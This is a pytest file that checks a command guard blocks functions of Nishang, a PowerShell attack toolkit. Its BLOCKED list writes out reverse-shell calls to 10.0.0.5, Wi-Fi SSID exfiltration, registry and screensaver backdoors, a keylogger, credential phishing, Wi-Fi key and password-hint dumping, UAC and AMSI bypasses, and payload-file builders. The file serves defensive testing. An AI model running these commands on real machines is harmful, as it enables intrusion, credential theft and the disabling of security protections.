"""Nishang's scripts are blocked by what they do, called by their function name or run as their script file.

Nishang is a public PowerShell toolkit for attacks: shells and relays, exfiltration, remote execution and
backdoors (network), persistence (code planted to run later), key and screen capture and fake credential
prompts, Wi-Fi keys and password hints (secrets), UAC bypasses and token theft (elevation), uninstalling
updates and switching off the malware scan (machine state), and builders of files only a code host runs. Its
commands need the module imported first, which is blocked too (`Import-Module .\\nishang.psm1`). Names a
project may use for its own scripts (`Download`, `Speak`, `Out-Word`) are not treated as the toolkit.
"""

from __future__ import annotations

import pytest
from conftest import guard_allows, guard_blocks

BLOCKED = [
    ("Invoke-PoshRatHttps -IPAddress 10.0.0.5 -Port 443", "network"),
    ("Invoke-ConPtyShell 10.0.0.5 4444", "network"),
    ("Invoke-SSIDExfil", "network"),
    ("Start-CaptureServer -AuthType NTLM", "network"),
    ("Set-RemoteWMI -UserName bob -ComputerName dc01", "network"),
    (".\\Invoke-SSIDExfil.ps1", "network"),
    ("Add-RegBackdoor -Payload C:\\Users\\Public\\p.ps1", "unverifiable.scheduled-code"),
    ("Add-ScrnSaveBackdoor -PayloadScript C:\\Users\\Public\\p.ps1", "unverifiable.scheduled-code"),
    ("Execute-OnTime -PayloadScript C:\\Users\\Public\\p.ps1 -time 23:00", "unverifiable.scheduled-code"),
    ("Add-Persistence -ScriptPath C:\\Users\\Public\\p.ps1", "unverifiable.scheduled-code"),
    (".\\Keylogger.ps1 -persist", "env.user-capture"),
    ("Show-TargetScreen", "env.user-capture"),
    ("Invoke-CredentialsPhish", "env.user-capture"),
    ("Get-WLAN-Keys", "env.wifi-keys"),
    ("Get-PassHints", "env.credential-dump"),
    ("Copy-VSS -DestinationDir C:\\Users\\Public", "env.credential-dump"),
    ("Invoke-PsUACme -method oobe -Verbose", "containment.privilege-elevation"),
    ("Enable-DuplicateToken", "containment.privilege-elevation"),
    ("Remove-Update KB2761226", "destructive.machine-state"),
    ("Invoke-AmsiBypass -Verbose", "destructive.machine-state"),
    ("Out-HTA -PayloadScript C:\\Users\\Public\\p.ps1", "unverifiable.code-file"),
    ("Out-Shortcut -Payload calc", "unverifiable.code-file"),
]

ALLOWED = [
    "Get-Help Invoke-PsUACme",
    "Select-String -Path .\\docs\\*.md -Pattern 'Invoke-SSIDExfil'",
    "Write-Host 'Get-WLAN-Keys is detected by the scanner'",
    ".\\scripts\\Download.ps1 -Path build",
    "Invoke-Pester -Path .\\tests\\Keylogger.Tests.ps1",
    "Out-String -InputObject $x",
]


@pytest.mark.parametrize(("command", "expected"), BLOCKED)
def test_nishang_scripts_are_blocked_by_what_they_do(command: str, expected: str) -> None:
    guard_blocks("powershell", command, expected)


@pytest.mark.parametrize("command", ALLOWED)
def test_mentions_and_the_projects_own_scripts_stay_allowed(command: str) -> None:
    guard_allows("powershell", command)
